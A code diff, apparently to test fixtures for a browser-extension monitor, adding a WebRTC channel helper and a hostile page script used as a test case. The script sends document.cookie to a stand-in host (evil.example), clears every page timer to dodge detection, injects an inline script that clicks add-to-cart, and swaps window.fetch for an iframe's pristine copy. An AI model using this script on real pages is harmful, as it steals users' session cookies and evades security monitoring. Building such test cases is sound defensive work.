@@ -64,15 +64,16 @@ export const HARD_CODED_PEER = `const pc = new RTCPeerConnection();
 export const UNSIGNALLED_CHANNEL = `const unsignalled = async (label, onOpen) => {
     const out = new RTCPeerConnection();
     const peer = new RTCPeerConnection();
+    // The peer hears the page's candidates (trickled once it has the offer); the page never hears the peer's.
+    const early = [];
+    let offered = false;
+    out.onicecandidate = (e) => e.candidate && (offered ? peer.addIceCandidate(e.candidate).catch(() => {}) : early.push(e.candidate));
     const channel = out.createDataChannel(label);
     channel.onopen = () => onOpen(channel);
     await out.setLocalDescription(await out.createOffer());
-    await new Promise((resolve) => {
-      const gathered = () => out.iceGatheringState === 'complete' && resolve();
-      out.onicegatheringstatechange = gathered;
-      gathered();
-    });
     await peer.setRemoteDescription(out.localDescription);
+    offered = true;
+    for (const candidate of early) peer.addIceCandidate(candidate).catch(() => {});
     await peer.setLocalDescription(await peer.createAnswer());
     await out.setRemoteDescription({ type: 'answer', sdp: peer.localDescription.sdp.replace(/a=(?:candidate|end-of-candidates).*\\r\\n/g, '') });
   };`;
@@ -910,6 +911,40 @@ export const MAIN_WORLD_SCRIPTS = {
    * stream read's \`{ value, done }\`, a digest's ArrayBuffer — then sends the cookie in a fetch body and inserts
    * an inline script: the report of each waited for one of those.
    */
+  /**
+   * Clears every timer id the page could name, every 5 ms — setTimeout's, setInterval's and
+   * requestIdleCallback's ids are small whole numbers in both browsers, and the page's clear functions take
+   * any — while it acts: three sends a few ms apart (the content script's batching), its own 200 KB inline
+   * script that clicks add to cart (hashed in steps), and fetch swapped for a pristine frame's after load.
+   */
+  'timer-clearing': `(() => {
+  const evil = (path) => 'https://evil.example/' + path + '?c=' + encodeURIComponent(document.cookie);
+  const big = 'var __pad = "' + 'x'.repeat(200000) + '"; document.querySelector("[data-action=add-to-cart]").click(); window.__bigRan = 1;';
+  let mine = 0;
+  let ticks = 0;
+  const clearAll = () => {
+    for (let id = 1; id < 20000; id++) if (id !== mine) clearTimeout(id);
+    if (typeof cancelIdleCallback === 'function') for (let id = 1; id < 20000; id++) cancelIdleCallback(id);
+    ticks++;
+    if (ticks === 40) fetch(evil('cleared-1'), { mode: 'no-cors' }).catch(() => {});
+    if (ticks === 41) fetch(evil('cleared-2'), { mode: 'no-cors' }).catch(() => {});
+    if (ticks === 42) fetch(evil('cleared-3'), { mode: 'no-cors' }).catch(() => {});
+    if (ticks === 80) {
+      const inline = document.createElement('script');
+      inline.textContent = big;
+      document.head.append(inline);
+    }
+    if (ticks === 120 && document.readyState === 'complete') {
+      const frame = document.createElement('iframe');
+      frame.hidden = true;
+      document.body.append(frame);
+      window.fetch = frame.contentWindow.fetch;
+    } else if (ticks === 120) ticks--;
+    if (ticks === 700) window.__cleared = true;
+  };
+  mine = setInterval(clearAll, 5);
+})();`,
+
   'poisoned-then': `(() => {
   Object.defineProperty(Object.prototype, 'then', {
     configurable: true,
